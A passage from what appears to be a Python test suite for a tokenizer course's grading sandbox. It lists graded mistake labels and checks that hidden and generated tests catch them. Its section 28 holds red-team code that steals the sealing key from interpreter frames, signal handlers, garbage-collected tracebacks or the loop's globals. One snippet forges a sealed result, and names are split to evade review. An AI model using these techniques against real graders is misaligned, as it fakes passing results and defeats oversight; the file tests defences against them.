    "count-a-counter-added-per-word", "best-max-inside-the-comprehension", "merge-a-tuple-grown-by-plus-equals",
    "merge-spliced-at-each-merge",
        "count-in-a-defaultdict-of-floats", "merge-recursive",  # novel48 (the second by verify_long_words)
        "count-overlapping-a-a-once", "count-pairs-unordered", "merge-keeps-the-pair", "ties-on-the-tokens-as-integers",
        "count-across-words", "count-answers-kept-by-words", "count-first-window-missed",
        "count-keyed-by-the-joined-pair", "count-last-window-missed", "count-one-per-pair-of-a-word",
        "count-overwrites", "count-pairs-deletes-short-words", "count-unweighted", "count-windows-two-apart",
        "merge-bound-off-by-one", "merge-by-replace-on-the-joined-word", "merge-checks-the-left-token-only",
        "merge-drops-the-last-token", "merge-either-order", "merge-empty-word-one-empty-token",
        "merge-first-occurrence-only", "merge-on-the-concatenation", "merge-overlapping", "merge-returns-a-list",
        "merge-right-to-left", "merge-skips-a-token-after-a-merge", "merge-the-pages-toy-on-bytes",
        "merge-the-pages-toy-read-back-by-regex", "ties-on-the-left-token-only", "ties-to-the-longer-pair",
        "train-answers-kept-by-pretokens", "train-frequencies-lost-after-a-merge",
        "train-no-merges-makes-one", "train-one-merge-too-many", "train-ties-on-ids",
        "train-unweighted", "train-without-the-stop", "best-top-by-is", "count-in-a-default-dict",
        "count-pairs-of-the-joined-bytes", "merge-for-loop-skip-ignored", "merge-into-a-default-list", "merge-tokens-compared-by-is",
        # novel43: the frequency added one at a time is caught by count_pairs' hidden check of a word seen 10**12 times
        # (verify_frequency_added_at_once), before any case
        "merge-last-token-appended-after-the-loop", "count-frequency-one-at-a-time",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "best-ties-on-surrogateescape-text", "count-pairs-keyed-by-text", "count-pairs-latin-1-to-utf-8",
        "count-rare-pairs-pruned", "count-sorted-most-common-first", "merge-on-text-tokens",
        "merge-short-word-returns-empty", "merge-token-joined-by-chr", "merge-tokens-compared-as-text",
        "merge-window-compared-as-a-list", "train-stop-returns-none",
        # walk54b's (24be25d; the generated inputs catch them)
        "count-frequency-from-enumerate", "count-two-token-words-skipped", "merge-advances-by-the-tokens-bytes",
        "merge-in-place-over-a-fixed-range", "train-best-before-the-stop"},
    # (lab 01: train's fixed case of the fourteenth round, novel41, catches 3 of its mistakes that were listed here)
    "03_parallel": {  # the mistakes graded in worker pools (POOLS_ROUND4) are left out of the set (below)
        "merge-total-rebuilt-per-chunk",  # walk62 (measured, after the cases: LAB03_WALK62)
        "file-sorts-the-callers-special-tokens",  # walk58 (the generated inputs with two tokens: LAB03_TOKENS_SORTED)
        "find-guess-without-the-cut-before",  # walk58 (its reads measured on a long stretch, after the cases: LAB03_WALK58)
        "find-one-byte-window-kept-whole",  # walk58 (its CPU time on a stretch without a one-byte token: LAB03_WALK58)
        "find-cuts-kept-by-path",  # walk58 (checks/kept.py's call, after the cases: LAB03_KEPT)
        # (find-guess-after-the-last-boundary, find-overlap-one-byte-short and first-guess-at-zero: the one-byte cases catch them)
        "range-read-one-byte-on", "search-stops-an-overlap-short",  # walk56's (generated inputs)
        "file-serial-decoded-with-replace",
        "chunk-cached-by-range", "chunk-decoded-block-by-block", "chunk-drops-a-token-at-its-start",
        "find-offset-in-characters", "merge-first-chunk-twice", "merge-starts-from-the-first-chunk",
        "chunk-as-latin-1", "chunk-in-text-mode", "chunk-line-ends-normalized", "chunk-not-seeked",
        "chunk-one-byte-more", "chunk-read-to-end", "chunk-skips-its-first-byte", "chunk-stripped",
        "chunk-with-endoftext-by-default", "chunk-without-special-tokens",
        "find-guess-kept-when-no-token-follows", "find-one-guess-too-many",
        "find-past-the-end", "find-steps-over-the-overlap", "merge-counts-the-keys",
        "merge-from-a-copy-of-the-first", "merge-last-chunk-left-out", "merge-overwrites", "merge-the-largest-count",
        "merge-the-one-chunk-itself", "merge-the-one-chunk-itself-read-once", "merge-counts-reads-twice",
        "whole-window-search", "chunk-reads-end-bytes", "chunk-str-of-the-bytes",
        "merge-into-a-default-counter", "merge-sum-without-a-start", "chunk-decoded-with-replace",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "chunk-decoded-as-utf-8-sig", "chunk-special-tokens-as-bytes", "file-boundaries-at-eot-only",
        "file-chunks-per-worker-ignored", "file-small-files-counted-here", "file-start-method-ignored",
        "file-threads-not-processes", "find-empty-file-no-boundaries", "find-reads-the-whole-file",
        "merge-adds-into-the-first-chunk", "merge-keys-of-the-first-chunk", "merge-sum-of-dicts-from-a-counter",
        # fix53's (count_chunk's generated texts catch them)
        "chunk-decoded-as-latin-1", "chunk-decoded-in-blocks-of-64-kib", "chunk-normalized-nfc", "chunk-normalized-nfkc"},
    # (lab 03: find_chunk_boundaries' fixed case of a token longer than <|endoftext|> across a read's end, learn52 9db0e8b,
    # catches the overlap of the shortest token, listed here)
    # (lab 03: find_chunk_boundaries' fixed cases for the first listed token's overlap and the `if j` filter, 189a986, catch
    # two more that were listed here, an offset added to the guess and a set of boundaries not sorted)
    # labs 06 to 10 derived so too (learn29, with the ninth round): their floors said 18, 10, 17, 18 and 4 where 29, 12, 26, 38
    # and 5 were caught
    "06_encode_decode": {
        "pretoken-ranks-compared-as-text",  # walk57
        "piece-tokens-gathered-by-sum",  # walk60: one long piece (LAB06_WALK60)
        "text-surrogate-ignore", "text-surrogate-replace", "text-surrogate-surrogatepass",  # walk58: a drawn text's check
        "decode-id-zero-refused", "decode-into-a-bytearray",
        "arena-offsets-in-characters", "decode-no-ids-an-empty-str", "encode-loop-without-a-length-check",
        "ranks-a-repeated-merge-refused", "encode-len-of-ranks-as-the-sentinel", "ranks-by-list-index",
        "arena-as-a-bytearray", "arena-gaps-skipped", "arena-ids-up-to-len", "arena-last-id-dropped", "arena-of-an-empty-vocab",
        "arena-offsets-of-lengths", "arena-offsets-without-their-end", "bounds-checked-past-the-end-only", "decode-bound-off-by-one",
        "decode-gap-ids-decode-to-nothing", "decode-index-error", "decode-returns-str", "decoded-with-replace-and-back",
        "each-token-decoded-alone", "ids-popped", "missing-ids-filled-in-vocab", "one-pass-in-the-dicts-order",
        "parts-of-characters", "ranks-counted-without-repeats", "ranks-from-one", "ranks-last-rank-kept", "stops-at-two-parts",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "arena-buffer-a-list", "arena-buffer-summed", "arena-from-the-smallest-id", "arena-gaps-filled-with-a-marker",
        "arena-gaps-written-into-the-vocab", "arena-in-insertion-order", "arena-size-from-the-last-key",
        "bytes-through-utf-8-text", "decode-bad-id-asserted", "decode-bad-ids-skipped",
        "decode-ids-bounded-by-the-buffer", "decode-ids-popped-from-the-front", "decode-key-error",
        "decode-message-without-the-id", "decode-negative-ids-wrapped", "decode-offsets-one-on",
        "decode-returns-the-pieces", "decode-slice-end-as-a-length", "decode-stops-at-a-bad-id",
        "empty-pretoken-one-empty-token", "encode-first-rank-found-by-dict-order", "encode-ranks-scanned-at-each-step",
        "encode-ranks-sorted-at-each-step", "encode-sentinel-the-words-length", "ranks-as-token-ids", "ranks-of-a-set",
        "ranks-of-sorted-merges", "ranks-of-the-joined-pair", "ranks-repeat-searched-in-the-list", "ranks-reversed",
        "special-token-bytes-of-latin-1", "specials-ignoring-case",
        # walk53's (the generated inputs catch them)
        "arena-buffer-through-text", "decode-invalid-bytes-dropped", "decode-joined-with-spaces", "decode-pieces-summed",
        # walk55's results grown with + (the hidden tests' measured growth: tests/test_mistakes.py, LAB06_WALK55_GROWN)
        "decoded-out-plus-piece", "decoded-out-plus-equals", "text-tokens-plus-more",
        "arena-buffer-grown-with-plus-equals",  # walk57's leftover (the same: LAB06_ARENA_COST)
        # walk58's costs at each call (many short calls measured: LAB06_PER_CALL)
        "pretoken-default-rank-the-max-each-call", "pretoken-ranks-copied-each-call", "decode-valid-ids-a-set-each-call",
        "decoded-tokens-kept-by-id"},  # walk55's (the generated inputs: a second arena with the same ids)
    # (merge_all's fixed cases, novel40's, catch 11 of its mistakes that were listed here; novel44's, 3 more)
    "07_heap_encoding": {
    "merge-all-next-part-by-byte-offset",  # walk58 (words of parts of several bytes, drawn: LAB07_WALK58)
    # walk59's lists copied or searched at C's speed (measured, after the cases: LAB07_WALK59)
    "first-heap-grown-by-copies", "merge-all-nones-removed-one-by-one", "merge-all-parts-gathered-by-copies",
    "first-pairs-a-set-each-call", "encode-ranks-copied-each-call",  # walk58 (many short calls measured: LAB07_PER_CALL)
    # walk58's answers kept from call to call (checks/kept.py's call, after the cases: KEPT_ANSWERS)
    "encode-cached-aliased", "first-heap-kept-by-parts",  # the second: LAB07_WALK58, the same ranks dict again
        "merge-all-heap-built-again", "merge-all-pops-the-front",  # walk56's (generated inputs)
        "first-heap-sorted-after-each-entry", "first-heap-heapified-after-each-entry",  # walk56's (the measured cost)
        "first-heap-in-a-default-list", "first-heap-positions-by-list-index", "merge-new-pairs-of-lower-rank-dropped",
        "encode-invalid-bytes-dropped", "entries-position-first", "first-last-pair-missed",
        "first-range-past-the-end", "first-rank-zero-dropped", "first-unheapified", "list-pop-for-heappop",
        "merge-after-by-index", "merge-last-part-never-paired", "non-merges-with-an-infinite-rank",
        "not-heapified", "one-entry-per-merge", "overlapping-entries-skipped",
        "rescans-short-pieces", "sentinel-in-the-callers-parts", "stale-when-no-merge-only", "the-pair-in-each-entry",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "encode-a-token-pretoken-as-one", "encode-heap-sorted-by-position", "encode-ranks-renumbered-in-dict-order",
        "first-entry-of-the-left-part", "first-pair-at-zero-skipped", "first-pair-looked-up-backwards",
        "first-pair-of-the-joined-bytes", "first-positions-as-byte-offsets", "first-positions-from-one",
        "first-rank-by-place-in-dict", "first-ranks-negated", "first-returns-what-heapify-returns",
        "first-stops-at-the-first-non-merge", "merge-heapified-on-each-pop", "merge-new-rank-zero-not-pushed",
        "merge-pushes-by-heapreplace", "merge-stale-only-when-the-rank-grew", "merge-stops-at-the-first-stale"},
    # (lab 07: merge_all's fixed cases for an entry unpacked position first and prev[i] = i, 02d58f7, catch the three of prev's
    # links that were listed here)
    "08_linear_encoding": {
        # walk58's lists copied at each token (measured, after the cases: LAB08_WALK58)
        "backtrack-tokens-copied-per-token", "last-copied-per-position",
        "counts-of-the-last-token-by-the-previous-end",
        "counts-token-length-in-characters",
        "candidates-of-characters", "compatible-checks-the-first-token", "compatible-encodings-concatenate",
        "compatible-ends-in-right", "compatible-starts-with-left", "compatible-with-the-first-token",
        "compatible-with-the-previous-entry", "counts-from-end-zero", "counts-last-end-missed", "counts-list-one-short",
        "counts-one-per-single-byte", "counts-over-the-callers-table", "counts-without-the-empty-prefix",
        "last-the-longest-valid-only", "last-window-start-not-clamped", "one-per-byte", "one-per-change-of-last",
        "one-per-single-byte-token", "only-the-last-token-checked", "prefix-one-byte-short",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        # (compatible-boundary-bytes-only: caught by a fixed case since walk59's same merges in two orders)
        "backtrack-recursive", "backtrack-valid-tokens-in-a-list",
        "backtrack-short-pretokens-replayed", "last-tokens-short-pretokens-replayed",  # walk57: the driver's watch
        "counts-as-a-dict-by-end", "counts-by-recursion", "counts-filled-from-the-end",
        "counts-from-one", "counts-from-the-empty-prefix", "counts-of-bytes-per-token", "counts-prefix-one-byte-long",
        "counts-without-counts-zero", "last-every-start-tried", "last-valid-rebuilt-per-end",
        # walk60's red team: kept by the set of merges above 4 merges (the generated orders: LAB08_WALK60)
        "backtrack-valid-kept-by-the-merges-set-above-four-merges", "compatible-kept-by-the-pair-and-merges-set-above-four-merges",
        "last-kept-by-pretoken-and-merges-set-above-four-merges"},
    "09_benchmarks": {
        "crossover-meetings-first-then-crossings",  # walk57
        "ratio-median-low", "crossover-one-point-allowed",  # novel48
        "exponent-sizes-sorted-alone", "ratio-last-round-left-out",
        "collector-not-restored-on-error", "collector-paused-around-all-rounds",
        # (the crossovers of the distance, interpolated backwards, at the midpoint, in one direction and the last: caught by a
        # fixed case of a crossing from below, then from above, seeds40)
        # (twelve exponent mistakes, fitting other lines: caught since walk61 by its fixed case of sizes close together,
        # an exact power law)
        "exponent-from-the-ends", "exponent-mean-of-slopes", "peak-read-after-stop", "peak-the-current-after",
        "ratio-divided-in-place", "ratio-inverted", "ratio-mean",
        "ratio-median-high", "ratio-of-medians", "ratio-of-minimums", "ratio-of-sorted-runs",
        "rounds-check-off-by-one", "ratio-first-round-dropped-as-a-warm-up",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "crossover-lengths-not-checked", "exponent-over-the-longer-half", "exponent-sorts-the-callers-points",
        "peak-fn-called-twice", "peak-of-a-snapshot-comparison", "ratio-geometric-mean", "ratio-median-grouped",
        "ratio-median-in-log-space", "ratio-median-of-differences", "ratio-of-sums", "ratio-of-the-first-two-labels",
        "ratio-rounded"},
    "10_distributed": {
        "merge-two-a-new-dict-per-key",  # walk59 (measured, after the cases: LAB10_WALK59)
        "tree-round-by-popping-the-front",  # walk61 (measured, after the cases: LAB10_WALK61)
        "range-continuation-bytes-skipped", "tree-rounds-of-floor-log2",  # novel48
        "count-ranges-sorted-copy", "count-ranges-sorted-in-place", "plan-each-path-once",  # walk57
        "plan-size-by-reading-the-file", "range-sorts-the-callers-tokens", "tree-every-two-neighbours-every-other-kept",
        "count-ranges-largest-first",
        "tree-odd-popped-from-the-callers-list", "merge-into-a-default-dict",
        "count-one-range-dropped", "merge-counts-as-floats", "merge-loops-over-the-larger",
        "count-no-ranges-not-handled", "count-ranges-eot-only", "count-reduce-not-a-task", "count-reduced-in-a-chain",
        "count-tree-reduce-as-the-task", "merge-adds-into-left", "merge-overwrites", "merge-smaller-copied",
        "range-from-the-start",
        "range-one-byte-more", "range-whole-file", "tree-a-chain", "tree-halves-paired", "tree-odd-carried-first",
        "tree-odd-merged-into-the-last", "tree-range-past-the-end", "tree-recursive-halves", "tree-stops-at-two",
        "range-decoded-with-replace",
        # the rounds from the seventh on that a list of tables left out (_round_tables finds them since; lead53)
        "count-called-then-wrapped", "count-graph-computed-before-returning", "count-no-ranges-none",
        "count-ranges-deduplicated", "count-tasks-called-with-keywords", "count-the-whole-count-as-one-task",
        "count-without-special-tokens", "merge-adds-one-per-key", "merge-keys-normalized",
        "merge-keys-of-both-intersected", "merge-keys-of-the-larger-only",
        "plan-paths-deduplicated", "plan-tokens-as-latin-1",
        "plan-tokens-as-latin-1-replaced", "range-decoded-ignoring-errors", "range-file-cached-by-path",
        "range-normalized-nfc", "range-normalized-nfkc", "range-read-end-bytes", "range-read-to-the-end",
        "tree-by-a-queue", "tree-odd-dropped", "tree-paired-from-the-right", "tree-pairs-reversed",
        "tree-returns-the-level",
        # walk54b's (24be25d; the generated inputs catch them, and task 3's tree has no fixed hidden case)
        "count-delayed-of-the-result", "count-leaves-reversed", "count-parts-a-generator", "count-reduce-from-an-empty-dict",
        "merge-by-dict-union", "merge-new-keys-by-plus-equals",
        "range-decoded-block-by-block",
        "range-start-backed-to-a-character", "tree-odd-combined-with-none", "tree-one-round-then-a-chain",
        "tree-rounds-written-into-the-callers-list"}}


def _caught_by_a_fixed_case(lab: str, graders, declarations, function, name: str) -> bool:
    """Whether one of the fixed hidden cases of ``name``'s tasks in ``lab`` fails ``function``."""
    with_cases = [graded for graded in declarations.get(name, []) if graded.hidden_cases]
    return any(_fails(lambda graded=graded: graders.check_cases(graded.task, function, graded.reference, graded.hidden_cases))
               for graded in with_cases)


@pytest.mark.parametrize("lab", GENERATED_ALONE_LABS)
def test_the_mistakes_no_fixed_case_catches_are_the_listed_ones(lab):
    """NOT_BY_A_FIXED_CASE[lab] is exactly the set of ``lab``'s mistakes (those not graded in worker pools) that no fixed
    hidden case catches. On the labs a run takes (tests/sampling.py's ``drawn_labs``, 1-4 s a lab): a new fixed case that
    catches a listed mistake fails here when the branch that adds it runs its lab, ``BPE_LABS=NN`` (CONTRIBUTING.md), as
    every change to a lab's graders does; the drawn test below noticed it only under a sample seed that drew the lab
    (stop 50's CI drew lab 07, whose new cases of 02d58f7 caught three listed mistakes)."""
    skip_unless_lab_drawn(lab[:2], EVERY_LAB_NUMBER)
    graders, _, declarations, _, mistaken = _generated_inputs_of(lab)
    import test_mistakes as tm

    not_by_a_case = {label for label, cell, name, changes in _fixed_case_mistakes(lab)
                     if (lab, label) not in tm.POOLS_ROUND4
                     and not _caught_by_a_fixed_case(lab, graders, declarations, mistaken(cell, name, changes), name)}
    assert not_by_a_case == NOT_BY_A_FIXED_CASE[lab], sorted(not_by_a_case ^ NOT_BY_A_FIXED_CASE[lab])


@pytest.mark.parametrize("lab", GENERATED_ALONE_LABS)
def test_the_generated_inputs_alone_catch_every_mistake_the_fixed_cases_catch(lab):
    """For every mistake of ``lab`` (tests/test_mistakes.py) that its fixed hidden cases as written catch: under each of
    3 secret seeds (one by default), the generated inputs of its task's hidden test alone (the strategy, without the fixed cases and their
    copies) catch it too, and the solution passes those of each task with fixed cases (graded in process, with the graders'
    private copy, as tests/test_mistakes.py grades). Before, 17 of lab 00's 29 such mistakes, 2 of lab 01's 14, 8 of lab 06's 18, 2 of
    lab 08's 17 and 4 of lab 09's 18 were caught under some of the seeds None, 1, 2, 3 only, or none, by the generated inputs (lab 07's 10
    under all); 4 of lab 03's 9 (a serial count read in text mode or with the locale's encoding, none without special
    tokens, a chunk size of one byte at least) under none of 1, 2, 3 and 3 of lab 10's 4 (a range counted line by line,
    with <|endoftext|> special by default, decoded as utf-8-sig) under some or none:
    a function that recognised the cases by their shape and answered them from a renamed table kept their points. A fresh
    copy of the mistake for each seed (some keep answers from call to call, which one grading's worker would not have)."""
    # One lab and one secret seed of the three by default, and lab 03's mistakes graded in worker pools left out (the
    # three seeds with them cost about four and a half minutes of CPU over the eight labs), all under BPE_EXHAUSTIVE=1
    # (tests/sampling.py).
    skip_unless_drawn("redteam27", lab, GENERATED_ALONE_LABS)
    seeds = (1, 2, 3) if EXHAUSTIVE else (one_of(f"redteam27:{lab}", (1, 2, 3)),)
    graders, solutions, declarations, generated_fail, mistaken = _generated_inputs_of(lab)
    import test_mistakes as tm

    missed = []
    for label, cell, name, changes in _fixed_case_mistakes(lab):
        pooled = (lab, label) in tm.POOLS_ROUND4  # lab 03's mistakes graded in worker pools (seconds each)
        if pooled and not EXHAUSTIVE:
            continue  # as tests/test_mistakes.py grades them
        # Which of the others a fixed case catches is the test above's; whether one catches a pooled mistake depends on its
        # pool's processes (pool-of-the-chunks: caught in one process, not in another), so it is graded here.
        if (not _caught_by_a_fixed_case(lab, graders, declarations, mistaken(cell, name, changes), name) if pooled
                else label in NOT_BY_A_FIXED_CASE[lab]):
            continue  # no fixed case catches it: nothing a table of them could keep
        missed += [(label, seed) for seed in seeds if not generated_fail(mistaken(cell, name, changes), name, seed)]
    assert not missed, missed
    with_cases = {name for name, declared in declarations.items() if any(graded.hidden_cases for graded in declared)}
    for name, seed in itertools.product(sorted(with_cases & {name for _, _, name, _ in _fixed_case_mistakes(lab)}), seeds):
        assert not generated_fail(solutions[name], name, seed), (name, seed)


def test_lab09s_peak_started_again_is_caught_by_the_generated_inputs_under_every_seed():
    """Lab 09's peak_memory that calls tracemalloc.start() when tracing is on already (a no-op: the peak not reset) returns an
    earlier peak above the call's. Its generated inputs drew earlier peaks of 0 to 8 MiB whatever the call's, and under
    secret seed 6 (one in seven of 0 to 20) none above it with tracing on: a fixed hidden case alone caught it. Half the
    earlier peaks are now above the call's; seeds 6 and one other of 0 to 20 (BPE_EXHAUSTIVE=1: all of them)."""
    import test_mistakes as tm

    *_, generated_fail, mistaken = _generated_inputs_of("09_benchmarks")
    cell, changes, *_ = tm.THIRD_ROUND_07_TO_09["09_benchmarks", "peak-started-again"]
    seeds = range(21) if EXHAUSTIVE else (6, one_of("redteam27:peak-started-again", tuple(range(21))))
    assert [seed for seed in seeds if not generated_fail(mistaken(cell, "peak_memory", changes), "peak_memory", seed)] == []


LEFT_NEIGHBOUR_MERGED_FIRST = [("07_heap_encoding", "prev-not-linked"), ("07_heap_encoding", "merge-prev-linked-only-when-pushed"),
                               ("07_heap_encoding", "merge-left-neighbour-at-start-minus-one")]


@pytest.mark.parametrize("key", LEFT_NEIGHBOUR_MERGED_FIRST, ids=[name for _, name in LEFT_NEIGHBOUR_MERGED_FIRST])
def test_lab07s_merge_all_that_loses_its_left_neighbour_is_caught_by_the_generated_inputs_under_every_seed(key):
    """Lab 07's merge_all that leaves prev[after] unlinked (always, or when it pushes nothing there) or takes start - 1 for
    the left neighbour never makes the new left pair when that neighbour merged before: trained ranks seldom merge the
    left chunk first, and under secret seeds 2 and 3 of 0 to 4 its generated inputs drew no such word (only the timed long
    run caught them). A sixth of them now join chunks merged left first (left_first_inputs): seeds 2 and 3, and None and 0
    to 4 under BPE_EXHAUSTIVE=1."""
    import test_mistakes as tm

    *_, generated_fail, mistaken = _generated_inputs_of("07_heap_encoding")
    table = {**tm.THIRD_ROUND_07_TO_09, **tm.FIFTH_ROUND_05_TO_10, **tm.SEVENTH_ROUND_05_TO_10}
    cell, changes, *_ = table[key]
    seeds = (None, 0, 1, 2, 3, 4) if EXHAUSTIVE else (2, 3)
    assert [seed for seed in seeds if not generated_fail(mistaken(cell, "merge_all", changes), "merge_all", seed)] == []


# ---- 28. the seal's key, read from the worker loop's frames --------------------------------------------------------

# The thread of section 21 that answers every request itself, now sealing its lines as the loop does: the key is looked
# for in the frames below the cell by the traceback module (their locals, as reprs: no text the review flags, no frame
# attribute), as any local of 32 bytes (it was ``key`` in the loop's ``serve``, below every cell).
KEY_FROM_THE_FRAMES = '''
import ast, hashlib, traceback


def _literal(text):
    try:
        return ast.literal_eval(text)
    except Exception:
        return None


_keys = [value for frame in traceback.StackSummary.extract(traceback.walk_stack(None), lookup_lines=False, capture_locals=True)
         for value in map(_literal, (frame.locals or {}).values()) if type(value) is bytes and len(value) == 32]


def _seal(request_line, data):
    asked = hashlib.blake2b(request_line + b"\\n", digest_size=32).digest()
    return hashlib.blake2b(asked + data.encode(), key=(_keys or [b""])[0], digest_size=32).hexdigest() + " " + data
'''


def _sealed_by_the_thread(key_code: str) -> str:
    """Section 21's thread that answers every request, sealing its lines with the key ``key_code`` finds (``_seal``)."""
    answering = LOOP_TAKEN_OVER.replace(
        'os.write(_reply_fd, (json.dumps({**_answer(request), "id": request["id"]}) + "\\n").encode())',
        'os.write(_reply_fd, (_seal(line, json.dumps({**_answer(request), "id": request["id"]})) + "\\n").encode())')
    assert answering != LOOP_TAKEN_OVER
    return key_code + answering


def test_a_thread_that_seals_its_replies_with_the_key_from_the_loop_s_frames_is_not_taken_for_the_loop():
    """Section 21's seal tells the loop's lines from a thread's by a key the loop holds, in the learner's process: the
    traceback module's ``capture_locals`` read it from the loop's ``serve`` frame, below every cell's (no flagged text),
    and the thread that answers every request (merge_counts on a copy, the arguments as they came) sealed its lines with
    it: the hidden test passed. Safe: the key is held by a thread of the loop's own, in its locals, which runs none of the
    learner's code (worker/__main__.py, ``_serving``); the frames below a cell, the main thread's, hold no key, and the
    thread's lines are not replies (the call times out)."""
    from test_mistakes import MERGE_INTO_FIRST, remote

    assert not _key_found([KEY_FROM_THE_FRAMES + PRINT_THE_KEYS]), "the seals' key, read from the frames below a cell"
    with contextlib.suppress(GradingStopped):  # no reply: the call stops at its timeout
        message = remote("03_parallel", MERGE_INTO_FIRST + _sealed_by_the_thread(KEY_FROM_THE_FRAMES), "merge_counts",
                         "check_merge_counts_properties", call_timeout=2, wall_factor=1)  # a wait stops after 2 s, not 20
        assert message is not None, "merge_counts passed its hidden test, every request answered by the learner's thread"


# Lab 09's peak_memory, given the fn that draws its size when called: fn never called, a size of its own sealed with the
# public key its closure holds (the cells in the order of its free variables, which the graders' source shows).
PEAK_SEALED_BY_ITSELF = '''
def peak_memory(fn):
    exponent, high, low, modulus, sealed, unit = (getattr(cell, "cell_" + "contents") for cell in getattr(fn, "__clo" + "sure__"))
    sealed.append(pow((12345 << 32) | low, exponent, modulus))
    return "done", low * unit
'''


@pytest.mark.xfail(strict=True, reason="open (issue 21, gap 1): a seal made in the worker can be made by the code beside it")
def test_lab_09_s_secret_size_cannot_be_sealed_by_the_function_that_should_measure_it():
    """Lab 09's task 6 checks ``peak_memory`` on a fn that draws its size when called and seals it with a public key
    (textbook RSA on a random salt), opened on the trusted side. The key is public: a peak_memory that never calls fn
    seals a size of its own with the key its closure holds and reports it; the check passes, and the review flags
    nothing (``getattr`` spelled around the flagged names). Open: whatever fn can seal in the worker, the learner's code
    can; only a size the trusted side knows, reaching fn by a way the learner's code cannot read, would do. Nor does
    the worker's memory high-water mark measured from outside: the same code allocating the size it seals raises it
    as fn would (a block of 40 MiB of its own raised it by 39.9 MiB, as fn's 37.5 MiB did by 37.4 MiB)."""
    from test_mistakes import remote

    from bpe_ref.course.trusted.review import capability_uses

    assert capability_uses(PEAK_SEALED_BY_ITSELF) == [], capability_uses(PEAK_SEALED_BY_ITSELF)
    message = remote("09_benchmarks", PEAK_SEALED_BY_ITSELF, "peak_memory", lambda graders, f: graders.verify_secret_size(f))
    assert message is not None, "peak_memory passed without calling fn: the size sealed by itself"


# The key handed over by the loop itself: ``get_ipython`` and ``display`` were functions of the worker loop's file, so
# their ``__globals__`` were the loop's, where ``_sealed`` is looked up at each reply; rebound, it was handed the key.
KEY_FROM_THE_LOOP_S_GLOBALS = '''
import hashlib

_keys = []
_loop = getattr(get_ipython, "__glo" + "bals__")
if "_sealed" in _loop:
    _sealing = _loop["_sealed"]

    def _handing_over(key, request, data):
        _keys.append(key)
        return _sealing(key, request, data)

    _loop["_sealed"] = _handing_over


def _seal(request_line, data):
    asked = hashlib.blake2b(request_line + b"\\n", digest_size=32).digest()
    return hashlib.blake2b(asked + data.encode(), key=(_keys or [b""])[0], digest_size=32).hexdigest() + " " + data
'''


def test_the_notebook_s_helpers_do_not_reach_the_loop_s_globals():
    """``get_ipython``, ``display`` and the spies were functions of the worker loop's file: their ``__globals__`` were
    the loop's, so a cell rebound ``_sealed`` there (no frame read, no event of the interpreter an audit hook sees; the
    name spelled around the review's) and was handed the key with its own reply: its thread then sealed its answers, and
    merge_counts that adds into its input passed its hidden test. Safe: they are defined from source in a namespace of
    their own, which holds nothing of the loop; the thread's lines are not replies (the call times out)."""
    from test_mistakes import MERGE_INTO_FIRST, remote

    helpers = ("names = [set(getattr(f, '__glo' + 'bals__')) for f in (get_ipython, display)]\n"
               "print(sorted({'serve', '_sealed', 'Worker', 'main'} & set().union(*names)))\n")
    with Sandbox(Policy()) as box:
        assert box.run_cell(helpers, "helpers").stdout.strip() == "[]"
    with contextlib.suppress(GradingStopped):  # no reply: the call stops at its timeout
        message = remote("03_parallel", MERGE_INTO_FIRST + _sealed_by_the_thread(KEY_FROM_THE_LOOP_S_GLOBALS), "merge_counts",
                         "check_merge_counts_properties", call_timeout=2, wall_factor=1)  # a wait stops after 2 s, not 20
        assert message is not None, "merge_counts passed its hidden test, every request answered by the learner's thread"


# Routes to the frames below a cell that no audit hook (``sys.addaudithook``) sees (checked on CPython 3.11, where
# ``sys._getframe``, ``tb_frame``, ``gi_frame``, ``gc.get_referrers`` and ``sys.settrace`` raise events): a frame is
# passed to a signal handler with no event, and gc.garbage holds the frames of a failed cell's traceback (with
# gc.DEBUG_SAVEALL, set with no event), whose ``f_back`` (no event) is linked to the loop's frame once it returns; a
# frame's ``f_locals`` raises none. Each looks for the key as any local of 32 bytes in the frames it reaches (``_keys``).
FRAMES_SEARCHED = """
def _search(frame):
    while frame is not None:
        _keys.extend(value for value in getattr(frame, "f_" + "locals").values() if type(value) is bytes and len(value) == 32)
        frame = getattr(frame, "f_" + "back")
"""

KEY_FROM_A_SIGNAL_HANDLER_S_FRAME = FRAMES_SEARCHED + """
import hashlib, signal, time

_keys, _looks = [], []


def _look(signum, frame):
    _looks.append(1)
    _search(frame)


signal.signal(signal.SIGALRM, _look)
signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)
_until = time.monotonic() + 5
while not _keys and len(_looks) < 200 and time.monotonic() < _until:
    pass
signal.setitimer(signal.ITIMER_REAL, 0)
assert _looks, "the handler never ran"


def _seal(request_line, data):
    asked = hashlib.blake2b(request_line + b"\\n", digest_size=32).digest()
    return hashlib.blake2b(asked + data.encode(), key=(_keys or [b""])[0], digest_size=32).hexdigest() + " " + data
"""

# A cell that fails with an exception that holds itself (a cycle), gc.DEBUG_SAVEALL set first: its traceback's frames,
# the loop's among them, stay in gc.garbage when the cycle is collected.
A_CYCLE_LEFT_IN_THE_GARBAGE = """
import gc
gc.set_debug(gc.DEBUG_SAVEALL)
_held = RuntimeError("a cycle")
_held.me = _held
raise _held
"""

KEY_FROM_THE_GARBAGE = FRAMES_SEARCHED + """
import gc

del _held
gc.collect()
_keys = []
_frames = [thing for thing in gc.garbage if type(thing).__name__ == "frame"]
for _frame in _frames:
    _search(_frame)
gc.set_debug(0)
gc.garbage.clear()
assert _frames, "no frame in the garbage"
"""


def _key_found(cells: list[str]) -> bool:
    """Whether ``cells`` (the last must run and print every key it found, ``_keys``, in hex) found the key of the seals,
    the one the trusted side sent this worker (compared here, not used)."""
    with Sandbox(Policy()) as box:
        for number, cell in enumerate(cells):
            run = box.run_cell(cell, f"cell{number}")
        assert run.ok, run
        return box._seal_key.hex() in run.stdout


PRINT_THE_KEYS = "print(len(_keys), *(key.hex() for key in _keys))\n"


def test_a_signal_handler_s_frame_does_not_give_the_key():
    """A cell's SIGALRM handler is given the frame running on the main thread (the cell's, then down to the loop's
    ``serve``) and read the key of the seals from its locals (with it, section 21's thread sealed its answers and
    merge_counts that adds into its input kept its hidden points). No audit event is raised on the way
    (``signal.signal``, the frame argument, ``f_back``, ``f_locals``), so an audit hook would not refuse it. Safe: the key
